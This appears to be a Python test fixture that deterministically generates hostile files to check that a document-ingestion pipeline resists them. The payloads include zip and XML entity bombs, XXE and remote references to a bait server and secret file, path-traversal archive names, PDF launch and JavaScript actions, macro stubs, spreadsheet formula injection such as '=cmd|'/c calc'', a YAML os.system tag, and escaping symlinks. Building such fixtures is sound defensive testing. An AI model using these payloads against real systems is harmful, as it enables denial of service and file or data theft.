"""A folder of hostile files, made by chance: of one seed the same files, byte for byte.

What each is meant to do to its reader stands in its name. Addresses that a file names are those of
``Bait``: whoever reads it must neither ask the server nor open the secret.
"""

from __future__ import annotations

import binascii
import io
import os
import random
import re
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import pairwise
from pathlib import Path

from tests.rag import files
from tests.rag.files import ARABIC, ENGLISH, Text, drawn, line

OFFICE = ("docx", "xlsx", "pptx")
ZIPPED = (*OFFICE, "epub", "odt", "ods")
MAIN = {
    "docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml",
    "pptx": "ppt/slides/slide1.xml", "epub": "OEBPS/one.xhtml",
    "odt": "content.xml", "ods": "content.xml",
}  # fmt: skip
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LONG_AGO = (1980, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Bait:
    """Where nobody may go.

    :ivar secret: A file outside of the folder.
    :ivar url: Of a server that notes who comes.
    """

    secret: Path
    url: str


@dataclass(frozen=True)
class Hostile:
    """A file, by its type and its content."""

    suffix: str
    content: bytes


Chance = random.Random
Recipe = Callable[[Chance, Bait], Hostile]


def written(corpus: Path, bait: Bait, *, count: int, seed: int) -> dict[str, str]:
    """Write so many hostile files, and return what each of them is made of, by its name.

    What the file system itself can be told stands among them, such as links and FIFOs.
    """
    chance = random.Random(seed)
    recipes = _in_turn(chance)
    made: dict[str, str] = {}
    places = list(PLACES)
    chance.shuffle(places)
    # Of each kind of place one; of 500, a tenth.
    for place in places[: max(5, count // 10)]:
        made |= place(corpus, bait)
    for number in range(count - len(made)):
        recipe = next(recipes)
        found = recipe(chance, bait)
        name = f"{number:03} {recipe.__name__.replace('_', ' ')}.{found.suffix}"
        folder = corpus / f"part {number % 7}"
        folder.mkdir(exist_ok=True)
        (folder / name).write_bytes(found.content)
        made[f"{folder.name}/{name}"] = recipe.__name__
    return made


def _in_turn(chance: Chance) -> Iterator[Recipe]:
    while True:
        order = list(RECIPES)
        chance.shuffle(order)
        yield from order


# Valid files, the same whenever they are made.


@cache
def valid(suffix: str, language: str = "en") -> bytes:
    """A whole file of a type."""
    text = ARABIC if language == "ar" else ENGLISH
    return steady(_MADE[suffix](text))


def steady(content: bytes) -> bytes:
    """An archive without the time at which it was made; anything else as it is."""
    if not content.startswith(b"PK"):
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as read:
        return zipped({name: read.read(name) for name in read.namelist()})


def zipped(members: dict[str, str | bytes]) -> bytes:
    """An archive, the same whenever it is made."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in members.items():
            member = zipfile.ZipInfo(name, _LONG_AGO)
            member.compress_type = zipfile.ZIP_DEFLATED
            data = content.encode() if isinstance(content, str) else content
            if name == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT[\d:]+Z", b"2026-01-02T03:04:05Z", data)
            made.writestr(member, data)
    return file.getvalue()


def members(suffix: str) -> dict[str, bytes]:
    """What a whole archive of a type holds."""
    with zipfile.ZipFile(io.BytesIO(valid(suffix))) as read:
        return {name: read.read(name) for name in read.namelist()}


def changed(suffix: str, **replaced: str | bytes) -> bytes:
    """A whole archive of a type with its main part replaced (``main``), or with more members."""
    more = {MAIN[suffix] if name == "main" else name: data for name, data in replaced.items()}
    return zipped({**members(suffix), **more})


def _pdf(text: Text) -> bytes:
    said = text.last.encode("ascii", "ignore").decode()
    return drawn(files.line(ENGLISH.title, 72, 780, 18) + files.line(said, 72, 740))


_MADE: dict[str, Callable[[Text], bytes]] = {
    "csv": files.fields, "docx": files.word, "epub": files.book, "htm": files.html,
    "html": files.html, "jsonl": files.lines, "markdown": files.markdown, "md": files.markdown,
    "ods": files.open_sheets, "odt": files.open_text, "pdf": _pdf, "pptx": files.slides,
    "rtf": files.rich, "tsv": lambda text: files.fields(text, "\t"),
    "txt": lambda text: f"{text.title}\n\n{text.opening}\n\n{text.last}\n".encode(),
    "xhtml": files.html, "xlsx": files.workbook,
}  # fmt: skip
SUFFIXES = tuple(_MADE)


def _any(chance: Chance, *suffixes: str) -> tuple[str, bytes]:
    suffix = chance.choice(suffixes or SUFFIXES)
    return suffix, valid(suffix, chance.choice(("en", "ar")))


# Damage.


def cut_off(chance: Chance, _: Bait) -> Hostile:
    suffix, content = _any(chance)
    return Hostile(suffix, content[: chance.randrange(len(content))])


def pdf_cut_off(chance: Chance, _: Bait) -> Hostile:
    content = valid("pdf")
    return Hostile("pdf", content[: chance.randrange(8, len(content))])


def bytes_flipped(chance: Chance, _: Bait) -> Hostile:
    suffix, content = _any(chance)
    flipped = bytearray(content)
    for _each in range(chance.choice((1, 3, 10, 50))):
        flipped[chance.randrange(len(flipped))] ^= 1 << chance.randrange(8)
    return Hostile(suffix, bytes(flipped))


def part_flipped(chance: Chance, _: Bait) -> Hostile:
    """Flipped within a part, so that the archive itself is whole."""
    suffix = chance.choice(ZIPPED)
    held = members(suffix)
    name = chance.choice(sorted(held))
    flipped = bytearray(held[name] or b"\0")
    for _each in range(chance.choice((1, 3, 10))):
        flipped[chance.randrange(len(flipped))] = chance.randrange(256)
    return Hostile(suffix, zipped({**held, name: bytes(flipped)}))


def part_missing(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice(ZIPPED)
    held = members(suffix)
    del held[chance.choice(sorted(held))]
    return Hostile(suffix, zipped({**held}))


def pieces_moved(chance: Chance, _: Bait) -> Hostile:
    suffix, content = _any(chance)
    a, b, c = sorted(chance.randrange(len(content)) for _each in range(3))
    return Hostile(suffix, content[:a] + content[b:c] + content[a:b] + content[c:])


def another_type(chance: Chance, _: Bait) -> Hostile:
    return Hostile(chance.choice(SUFFIXES), _any(chance)[1])


def two_in_one(chance: Chance, _: Bait) -> Hostile:
    return Hostile(
        chance.choice(("pdf", *ZIPPED)), _any(chance, "pdf")[1] + _any(chance, *ZIPPED)[1]
    )


def noise(chance: Chance, _: Bait) -> Hostile:
    return Hostile(chance.choice(SUFFIXES), chance.randbytes(chance.choice((1, 40, 9_000))))


def nothing(chance: Chance, _: Bait) -> Hostile:
    return Hostile(
        chance.choice(SUFFIXES), chance.choice((b"", b" ", b"\n" * 999, b"\xef\xbb\xbf"))
    )


# Locks.


def pdf_locked(chance: Chance, _: Bait) -> Hostile:
    version, revision, length = chance.choice(((1, 2, 40), (2, 3, 128), (4, 4, 128), (5, 6, 256)))
    size = 48 if version == 5 else 32
    keys = f"/O <{chance.randbytes(size).hex()}> /U <{chance.randbytes(size).hex()}>"
    if version == 5:
        keys += f" /OE <{chance.randbytes(32).hex()}> /UE <{chance.randbytes(32).hex()}>"
    filters = " /StmF /S /StrF /S /CF << /S << /CFM /AESV2 >> >>" if version >= 4 else ""
    extra = (
        f"10 0 obj\n<< /Filter /Standard /V {version} /R {revision} /Length {length} /P -4 {keys}"
        f"{filters} >>\nendobj\n"
    )
    page = line("The cats sleep at home.", 72, 700)
    return Hostile("pdf", drawn(page, extra=extra, trailer="/Encrypt 10 0 R /ID [<00> <00>]"))


def archive_locked(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice(ZIPPED)
    content = bytearray(valid(suffix))
    for signature, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        found = content.find(signature)
        while found >= 0:
            content[found + at] |= 1
            found = content.find(signature, found + 4)
    return Hostile(suffix, bytes(content))


def old_office(chance: Chance, _: Bait) -> Hostile:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return Hostile(chance.choice(OFFICE), head + chance.randbytes(4_000))


# Bombs.


def zip_bomb(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice(ZIPPED)
    huge = _deflated(310_000_000 if chance.random() < 0.5 else 250_000_000)
    return Hostile(suffix, _with_raw(suffix, chance.choice((MAIN[suffix], "word/more.xml")), huge))


def zip_bomb_that_lies(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice(ZIPPED)
    packed, _size, crc = _deflated(120_000_000)
    return Hostile(suffix, _with_raw(suffix, MAIN[suffix], (packed, chance.choice((0, 10)), crc)))


def overlapping_members(chance: Chance, _: Bait) -> Hostile:
    """One packed member that the list names many times."""
    suffix = chance.choice(ZIPPED)
    packed, size, crc = _deflated(10_000_000)
    times = chance.choice((20, 29, 3_000))
    names = [MAIN[suffix], *(f"word/more{n}.xml" for n in range(times))]
    content, at = _local(names[0], packed, size, crc), 0
    listed = b"".join(_listed(name, packed, size, crc, at) for name in names)
    return Hostile(suffix, content + listed + _end(len(names), len(listed), len(content)))


def zip_in_zip(chance: Chance, _: Bait) -> Hostile:
    suffix, content = chance.choice(ZIPPED), b"0" * 1_000_000
    for _each in range(chance.randrange(2, 9)):
        content = zipped({"word/inner.zip": content, MAIN[suffix]: content})
    return Hostile(suffix, content)


def odd_member_names(chance: Chance, bait: Bait) -> Hostile:
    suffix = chance.choice(ZIPPED)
    up = "../" * 12 + str(bait.secret).lstrip("/")
    odd = (up, str(bait.secret), "a\nb.xml", "\x1b[2J.xml", "word/" * 60 + "x.xml", "x\\..\\y.xml")
    return Hostile(suffix, zipped({**members(suffix), **dict.fromkeys(odd, "<a/>")}))


def pdf_bomb(chance: Chance, _: Bait) -> Hostile:
    stream = line("a" * 100, 72, 700).encode() * chance.choice((20_000, 1_000_000))
    packed = zlib.compress(zlib.compress(stream, 9), 9) if chance.random() < 0.5 else b""
    twice = "[/FlateDecode /FlateDecode]" if packed else "/FlateDecode"
    return Hostile("pdf", _pdf_of(packed or zlib.compress(stream, 9), f"/Filter {twice}"))


def laughs(chance: Chance, _: Bait) -> Hostile:
    """Entities of entities of entities, in whatever encoding a parser may know."""
    suffix = chance.choice((*ZIPPED, "html", "xhtml"))
    encoding = chance.choice(("utf-8", "utf-16", "utf-16-be", "utf-32", "utf-7", "cp037"))
    depth = chance.choice((3, 9, 30))
    declared = '<!ENTITY a "haha haha">' + "".join(
        f'<!ENTITY e{n} "{(f"&e{n - 1};" if n else "&a;") * 10}">' for n in range(depth)
    )
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [{declared}]><x>&e{depth - 1};</x>'
    )
    if encoding == "utf-7":
        text = f'<?xml version="1.0" encoding="utf-7"?>{text.partition("?>")[2]}'
        data = text.partition("?>")[0].encode() + b"?>" + text.partition("?>")[2].encode("utf-7")
        data = data.replace(b"<!", b"+ADwAIQ-")
    else:
        data = text.encode(encoding)
    if suffix in ("html", "xhtml"):
        return Hostile(suffix, data)
    names = [name for name in sorted(members(suffix)) if name.endswith((".xml", ".rels", ".opf"))]
    return Hostile(suffix, zipped({**members(suffix), chance.choice((MAIN[suffix], *names)): data}))


def quadratic_entity(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice((*ZIPPED, "xhtml"))
    text = f'<!DOCTYPE x [<!ENTITY a "{"ha" * 20_000}">]><x>{"&a;" * 20_000}</x>'
    return Hostile(suffix, changed(suffix, main=text) if suffix in ZIPPED else text.encode())


def book_that_repeats(chance: Chance, _: Bait) -> Hostile:
    chapter = "<html><body>" + "<p>The cats sleep.</p>" * 500 + "</body></html>"
    times = chance.choice((50, 100_000))
    spine = "<itemref idref='a'/>" * times
    book = (
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="one.xhtml"'
        f' media-type="application/xhtml+xml"/></manifest><spine>{spine}'
        "</spine></package>"
    )
    more = {"OEBPS/book.opf": book, "OEBPS/one.xhtml": chapter}
    return Hostile("epub", zipped({**members("epub"), **more}))


# What leads elsewhere.


def file_of_the_disk(chance: Chance, bait: Bait) -> Hostile:
    suffix = chance.choice((*ZIPPED, "html", "xhtml"))
    target = chance.choice((f"file://{bait.secret}", str(bait.secret), f"{bait.url}/x.dtd"))
    kind = chance.choice(("SYSTEM", 'PUBLIC "x"'))
    if chance.random() < 0.3:  # a parameter entity, or the document's own
        declared = f'<!ENTITY % p {kind} "{target}"> %p;'
        doctype = chance.choice((f"<!DOCTYPE x [{declared}]>", f'<!DOCTYPE x {kind} "{target}">'))
    else:
        doctype = f'<!DOCTYPE x [<!ENTITY x {kind} "{target}">]>'
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{target}"/>'
    style = f'<?xml-stylesheet href="{target}"?>'
    body = f"<html><body><p>&x;{include} The cats.</p></body></html>"
    text = f'<?xml version="1.0"?>{style}{doctype}{body}'
    if suffix in ("html", "xhtml"):
        return Hostile(suffix, text.encode())
    name = chance.choice((MAIN[suffix], "docProps/core.xml", "META-INF/container.xml"))
    return Hostile(suffix, zipped({**members(suffix), name: text}))


def pictures_elsewhere(chance: Chance, bait: Bait) -> Hostile:
    targets = (
        f"{bait.url}/a.png",
        f"file://{bait.secret}",
        f"//{bait.url[7:]}/b",
        str(bait.secret),
    )
    target = chance.choice(targets)
    tags = (
        '<img src="{0}" srcset="{0} 2x">', '<link rel=stylesheet href="{0}">',
        '<iframe src="{0}"></iframe>', '<script src="{0}"></script>', '<object data="{0}">',
        '<base href="{0}">', '<meta http-equiv=refresh content="0; url={0}">',
        '<style>@import "{0}"; @font-face {{ src: url({0}) }}</style>', '<video src="{0}">',
        '<svg><image href="{0}"/><use href="{0}#a"/></svg>', '<a href="{0}" ping="{0}">x</a>',
    )  # fmt: skip
    said = "".join(tag.format(target) for tag in chance.sample(tags, 5))
    if chance.random() < 0.5:
        return Hostile("md", f"# Cats\n\n![x]({target}) [y]: {target}\n\n{said}\n".encode())
    page = f"<html><body>{said}<p>The cats.</p></body></html>"
    if chance.random() < 0.3:
        return Hostile("epub", changed("epub", main=page))
    return Hostile("html", page.encode())


def office_relations_elsewhere(chance: Chance, bait: Bait) -> Hostile:
    suffix = chance.choice(OFFICE)
    kinds = (
        "image",
        "attachedTemplate",
        "oleObject",
        "externalLinkPath",
        "hyperlink",
        "subDocument",
    )
    targets = (f"{bait.url}/a", f"file://{bait.secret}", f"../../../..{bait.secret}")
    relations = "".join(
        f'<Relationship Id="x{n}" Type="{RELATIONS}/{kind}" Target="{chance.choice(targets)}"'
        f' TargetMode="{chance.choice(("External", "Internal"))}"/>'
        for n, kind in enumerate(kinds)
    )
    held = members(suffix)
    names = [name for name in sorted(held) if name.endswith(".rels")]
    name = chance.choice(names)
    return Hostile(
        suffix,
        zipped(
            {
                **held,
                name: held[name].replace(
                    b"</Relationships>", relations.encode() + b"</Relationships>"
                ),
            }
        ),
    )


def pdf_that_acts(chance: Chance, bait: Bait) -> Hostile:
    acts = (
        "<< /S /JavaScript /JS (while(true){}) >>",
        "<< /S /Launch /F (/bin/sh) >>",
        f"<< /S /URI /URI ({bait.url}/pdf) >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({bait.url}/form) >> >>",
        f"<< /S /GoToR /F ({bait.secret}) /D [0 /Fit] >>",
        f"<< /S /ImportData /F ({bait.secret}) >>",
    )
    stream = f"<< /Length 0 /F << /FS /URL /F ({bait.url}/stream) >> >>\nstream\n\nendstream"
    extra = f"10 0 obj\n{chance.choice(acts)}\nendobj\n11 0 obj\n{stream}\nendobj\n"
    content = drawn(line("The cats sleep.", 72, 700), extra=extra)
    opened = b"/Type /Catalog /OpenAction 10 0 R /AA << /WC 10 0 R >>"
    return Hostile("pdf", content.replace(b"/Type /Catalog", opened))


def macros(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice(OFFICE)
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[suffix]
    project = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen()\n Shell "sh"' + chance.randbytes(
        500
    )
    more = {f"{folder}/vbaProject.bin": project}
    held = members(suffix)
    kinds = held["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return Hostile(suffix, zipped({**held, **more, "[Content_Types].xml": kinds}))


def formulas_that_act(chance: Chance, bait: Bait) -> Hostile:
    acts = (
        "=cmd|'/c calc'!A0",
        f'=WEBSERVICE("{bait.url}")',
        f'=HYPERLINK("{bait.url}","x")',
        "@SUM(1)",
    )
    act = chance.choice(acts)
    if chance.random() < 0.5:
        return Hostile("csv", f'name,cat\n"{act.replace(chr(34), chr(34) * 2)}",1\n'.encode())
    quoted = act.replace("&", "&amp;").replace('"', "&quot;").removeprefix("=")
    return Hostile("xlsx", _sheet(f'<row r="1"><c r="A1"><f>{quoted}</f><v>1</v></c></row>'))


# Sizes and depths.


def one_long_line(chance: Chance, _: Bait) -> Hostile:
    suffix = chance.choice(("txt", "md", "csv", "tsv", "html", "jsonl"))
    piece = chance.choice(
        ("word ", "x", "قطة ", "a.", "- ", "|", '"', "&amp;", "\u0301", "[", "1,")
    )
    text = piece * chance.choice((20_000, 100_000))
    if suffix == "jsonl":
        text = '{"text": "' + text.replace('"', "'") + '"}'
    return Hostile(suffix, text.encode())


def deep_elements(chance: Chance, _: Bait) -> Hostile:
    opening, closing = chance.choice(
        (("<div>", "</div>"), ("<ul><li>", ""), ("<b>", ""), ("<font color=red>", ""),
         ("<table><tr><td>", ""), ("<blockquote>", ""), ("<a href=x>", ""), ("<svg>", ""),
         ("<select><option>", ""), ("<p><b><i>", ""), ("<dl><dt>", ""), ("<math>", ""))
    )  # fmt: skip
    deep = chance.choice((200, 5_000, 60_000))
    page = f"<html><body>{opening * deep}The cats.{closing * deep}"
    if chance.random() < 0.2:
        return Hostile("epub", changed("epub", main=page))
    return Hostile(chance.choice(("html", "htm", "xhtml")), page.encode())


def deep_word(chance: Chance, _: Bait) -> Hostile:
    inner = chance.choice(
        ("<w:tbl><w:tr><w:tc>", "<w:p><w:r><w:pict>", "<w:sdt><w:sdtContent>", "<w:ins>", "<w:p>")
    )
    head = f'<w:document xmlns:w="{WORD}"><w:body>'
    deep = chance.choice((100, 3_000, 50_000))
    tags = re.findall(r"<([\w:]+)>", inner)
    tail = "".join(f"</{tag}>" for tag in reversed(tags)) * deep + "</w:body></w:document>"
    run = "<w:r><w:t>The cats.</w:t></w:r>"
    return Hostile("docx", changed("docx", main=head + inner * deep + run + tail))


def wide_word(chance: Chance, _: Bait) -> Hostile:
    span = chance.choice((9_999, 999_999_999, -1))
    cell = (
        f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/><w:vMerge/></w:tcPr><w:p><w:r><w:t>The cats.'
        "</w:t></w:r></w:p></w:tc>"
    )
    rows = f"<w:tr>{cell * 3}</w:tr>" * chance.choice((2, 200))
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:tbl>{rows}</w:tbl></w:body></w:document>'
    return Hostile("docx", changed("docx", main=body))


def styles_in_a_circle(_chance: Chance, _: Bait) -> Hostile:
    styles = (
        f'<w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/>'
        '<w:basedOn w:val="B"/><w:link w:val="A"/></w:style><w:style w:type="paragraph"'
        ' w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    numbering = (
        f'<w:numbering xmlns:w="{WORD}"><w:abstractNum w:abstractNumId="1"><w:numStyleLink'
        ' w:val="A"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
        "</w:numbering>"
    )
    notes = (
        f'<w:footnotes xmlns:w="{WORD}"><w:footnote w:id="2"><w:p><w:r><w:footnoteReference'
        ' w:id="2"/><w:t>The cats.</w:t></w:r></w:p></w:footnote></w:footnotes>'
    )
    body = (
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:pPr><w:pStyle w:val="A"/><w:numPr><w:ilvl'
        ' w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:footnoteReference w:id="2"/>'
        "<w:t>The cats.</w:t></w:r></w:p></w:body></w:document>"
    )
    more = {"word/styles.xml": styles, "word/numbering.xml": numbering, "word/footnotes.xml": notes}
    return Hostile("docx", zipped({**members("docx"), **more, "word/document.xml": body}))


def wide_sheet(chance: Chance, _: Bait) -> Hostile:
    cell = '<c r="{0}" t="inlineStr"><is><t>The cats.</t></is></c>'
    rows = chance.choice(
        (
            f'<row r="1048576">{cell.format("XFD1048576")}</row>',
            f'<row r="999999999999">{cell.format("A999999999999")}</row>',
            f'<row r="-5">{cell.format("A-5")}</row>',
            f'<row r="1">{cell.format("AAAAAAAA1")}</row>',
            '<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>',
            '<row r="1"><c r="A1" t="d"><v>9e99</v></c><c r="B1"><v>1e999</v></c></row>',
            '<row r="1"><c r="A1" s="99999"><v>1</v></c></row>',
            f"<row>{cell.format('A1') * 20_000}</row>",
        )
    )
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return Hostile("xlsx", _sheet(rows, before='<dimension ref="A1:XFD1048576"/>', after=merged))


def deep_slide(chance: Chance, _: Bait) -> Hostile:
    held = members("pptx")[MAIN["pptx"]]
    group = (
        b'<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="x"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
        b"<p:grpSpPr/>"
    )
    deep = chance.choice((10, 100, 4_000))
    more = group * deep + b"</p:grpSp>" * deep
    return Hostile(
        "pptx", changed("pptx", main=held.replace(b"</p:spTree>", more + b"</p:spTree>"))
    )


def deep_markdown(chance: Chance, _: Bait) -> Hostile:
    piece = chance.choice(
        ("> ", "- ", "1. ", "[", "![", "*", "**a ", "`", "``` \n", "<", "<!--", "| a ", "\\", "_a_",
         "[a](", "[a]: b\n", "&#0;", "a\n===\n", "  ", "\t", "#", "~~", "***a*", "[^1]", "|-|\n|")
    )  # fmt: skip
    return Hostile("md", (piece * chance.choice((3_000, 20_000)) + "\nThe cats.\n").encode())


def front_matter_that_grows(chance: Chance, _: Bait) -> Hostile:
    names = "abcdefghi"
    grown = "".join(
        f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in pairwise(names)
    )
    tag = chance.choice(("!!python/object/apply:os.system [true]", "x", "&t [*t]"))
    head = f"---\ntitle: {tag}\na: &a [{'x, ' * 9}]\n{grown}---\n"
    return Hostile("md", f"{head}\n# Cats\n\nThe cats sleep.\n".encode())


def markdown_without_an_end(chance: Chance, _: Bait) -> Hostile:
    """What a pattern looks for the end of again and again, or tries in two ways."""
    return Hostile("md", chance.choice(ENDLESS).encode())


ENDLESS = (
    "---\n" + "-a: x\n" * 40 + "(no end\n", "![a](" * 20_000, "![" * 20_000,
    "<div><script>" * 20_000, "<style>\n\n" * 20_000, "<table><tr " * 20_000,
    "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|\n" * 2_000,
)  # fmt: skip


def deep_json(chance: Chance, _: Bait) -> Hostile:
    deep = chance.choice((50, 900, 100_000))
    value = chance.choice(
        ("[" * deep + "]" * deep, '{"a":' * deep + "1" + "}" * deep, "9" * deep, "1e99999", "NaN",
         '"\\ud800\\udc00\\ud800"', '"' + "\\u0000" * 500 + '"', "-" + "0" * deep)
    )  # fmt: skip
    return Hostile("jsonl", f'{{"title": "x", "text": {value}}}\n{{"text": "The cats."}}'.encode())


def many_fields(chance: Chance, _: Bait) -> Hostile:
    delimiter = chance.choice((",", "\t", ";", "|"))
    rows = chance.choice(
        ((delimiter * 50_000 + "\n") * 3, ("a" + delimiter) * 2_000 + "\n" + "1" * 9,
         '"' * 9_999, f'a{delimiter}"{"b" * 200_000}', f"a{delimiter}b\n" * 20_000,
         f"a{delimiter}\0b\nThe{delimiter}cats\r\r\r\n")
    )  # fmt: skip
    return Hostile(chance.choice(("csv", "tsv")), rows.encode())


def spans_over_everything(chance: Chance, _: Bait) -> Hostile:
    span = chance.choice(("99", "9999", "999999999999", "-1", "٣٣", "1e9"))
    cell = f"<td colspan={span} rowspan={span}>The cats."
    return Hostile("html", (f"<table>{'<tr>' + cell * 3}" * chance.choice((1, 60))).encode())


def many_attributes(chance: Chance, _: Bait) -> Hostile:
    said = chance.choice(
        (" a='b'", " class='comments share'", " style='display:none;'", " href='x' x"),
    )
    return Hostile("html", (f"<p{said * 20_000}>The cats.<p{said}>" * 2).encode())


# What isn't text.


def nuls(chance: Chance, _: Bait) -> Hostile:
    suffix, content = _any(chance, "txt", "md", "csv", "html", "jsonl", "tsv")
    held = bytearray(content)
    for _each in range(chance.choice((1, 20, 500))):
        held.insert(chance.randrange(len(held)), 0)
    return Hostile(suffix, bytes(held))


def lone_surrogates(chance: Chance, _: Bait) -> Hostile:
    kinds = {
        "jsonl": b'{"title": "\\ud800 cats", "text": "The \\udfff cats \\ud83d."}',
        "html": b"<title>&#xD800;</title><p>The &#xDFFF; cats &#55357;.",
        "txt": b"The \xed\xa0\x80 cats.",
        "md": "# The cats\n\n&#xD800; \ud800".encode("utf-16", "surrogatepass"),
        "csv": "name,cat\n\udc80,1\n".encode("utf-16", "surrogatepass"),
        "xhtml": b"<?xml version='1.0'?><html><body><p>&#xD800; cats</p></body></html>",
    }
    suffix = chance.choice(sorted(kinds))
    return Hostile(suffix, kinds[suffix])


def controls(chance: Chance, _: Bait) -> Hostile:
    suffix, content = _any(chance, "txt", "md", "csv", "html", "jsonl")
    odd = (
        "\u202e",
        "\x1b[2J\x1b]0;x\x07",
        "\u2066",
        "\ufeff",
        "\u200b",
        "\U000e0041",
        "\x85",
        "\x0c",
    )
    said = chance.choice(odd) * chance.choice((1, 900))
    at = chance.randrange(len(content.decode()))
    text = content.decode()
    return Hostile(suffix, (text[:at] + said + text[at:]).encode())


def false_encoding(chance: Chance, _: Bait) -> Hostile:
    named = chance.choice(
        ("utf-7", "rot13", "hex", "idna", "undefined", "x" * 150, "utf-16", "zlib")
    )
    page = f'<?xml version="1.0" encoding="{named}"?><meta charset="{named}"><p>The cats. é</p>'
    written_as = chance.choice(("utf-8", "cp1252", "utf-16", "utf-32", "cp1256"))
    return Hostile(chance.choice(("html", "xhtml")), page.encode(written_as))


# Circles in PDFs.


def pdf_in_a_circle(chance: Chance, _: Bait) -> Hostile:
    content = drawn(line("The cats sleep.", 72, 700))
    old, new = chance.choice(
        (
            (b"/Kids [", b"/Kids [2 0 R "),
            (b"/Kids [", b"/Kids [1 0 R 100 0 R 100 0 R "),
            (b"/Parent 2 0 R", b"/Parent 100 0 R"),
            (b"/Contents 101 0 R", b"/Contents [101 0 R 100 0 R 2 0 R]"),
            (b"/Count 1", b"/Count 999999999"),
            (b"[0 0 595 842]", b"[0 0 1e38 -1e38]"),
            (b"/Type /Catalog", b"/Type /Catalog /StructTreeRoot 1 0 R /K 1 0 R"),
            (b"trailer\n<<", b"trailer\n<< /Prev 0 /XRefStm 9"),
            (b"/Length ", b"/Length 999999999999 %"),
            (b"/Length ", b"/Length 101 0 R %"),
        )
    )
    return Hostile("pdf", content.replace(old, new, 1))


def pdf_tags_in_a_circle(chance: Chance, _: Bait) -> Hostile:
    deep = chance.choice((3, 20_000))
    last = 1_000 + deep
    elements = "".join(
        f"{n} 0 obj\n<< /Type /StructElem /S /P /P {n - 1 if n > 1_000 else 19} 0 R"
        f" /K [{n + 1 if n < last else 1_000} 0 R] /Pg 100 0 R >>\nendobj\n"
        for n in range(1_000, last + 1)
    )
    extra = f"19 0 obj\n<< /Type /StructTreeRoot /K [1000 0 R] >>\nendobj\n{elements}"
    page = f"/P << /MCID 0 >> BDC {line('The cats sleep.', 72, 700)} EMC"
    content = drawn(page, extra=extra)
    root = b"/Type /Catalog /StructTreeRoot 19 0 R /MarkInfo << /Marked true >>"
    return Hostile("pdf", content.replace(b"/Type /Catalog", root))


def pdf_deep_arrays(chance: Chance, _: Bait) -> Hostile:
    deep = chance.choice((400, 100_000))
    extra = f"10 0 obj\n{chance.choice(('[', '<< /A '))}{'[' * deep}\nendobj\n"
    drawing = chance.choice(
        ("q " * deep, "[" * deep, "/F1 1e9 Tf ", "BT " * deep, "1 0 0 1 0 0 cm " * deep)
    )
    content = drawn(drawing + line("The cats.", 72, 700), extra=extra)
    return Hostile("pdf", content.replace(b"/Type /Catalog", b"/Type /Catalog /Outlines 10 0 R"))


RECIPES: tuple[Recipe, ...] = (
    cut_off, pdf_cut_off, bytes_flipped, bytes_flipped, bytes_flipped, part_flipped, part_flipped,
    part_missing, pieces_moved, another_type, two_in_one, noise, nothing, pdf_locked,
    archive_locked, old_office, zip_bomb, zip_bomb_that_lies, overlapping_members, zip_in_zip,
    odd_member_names, pdf_bomb, laughs, quadratic_entity, book_that_repeats, file_of_the_disk,
    pictures_elsewhere, office_relations_elsewhere, pdf_that_acts, macros, formulas_that_act,
    one_long_line, deep_elements, deep_word, wide_word, styles_in_a_circle, wide_sheet, deep_slide,
    deep_markdown, markdown_without_an_end, front_matter_that_grows, deep_json, many_fields,
    spans_over_everything,
    many_attributes, nuls, lone_surrogates, controls, false_encoding, pdf_in_a_circle,
    pdf_tags_in_a_circle, pdf_deep_arrays,
)  # fmt: skip


# What the file system can be told. Each returns the names that it made, without those that no
# listing should show.

SAID = b"The dog of the file system sleeps."


def link_to_itself(corpus: Path, _: Bait) -> dict[str, str]:
    (corpus / "itself.txt").symlink_to("itself.txt")
    (corpus / "there.txt").symlink_to("back.txt")
    (corpus / "back.txt").symlink_to("there.txt")
    return {}


def folder_within_itself(corpus: Path, _: Bait) -> dict[str, str]:
    (corpus / "within").mkdir()
    (corpus / "within" / "again").symlink_to(corpus)
    (corpus / "within" / "up").symlink_to("..")
    return {}


def link_out(corpus: Path, bait: Bait) -> dict[str, str]:
    (corpus / "out.txt").symlink_to(bait.secret)
    (corpus / "around.txt").symlink_to(os.path.relpath(bait.secret, corpus))
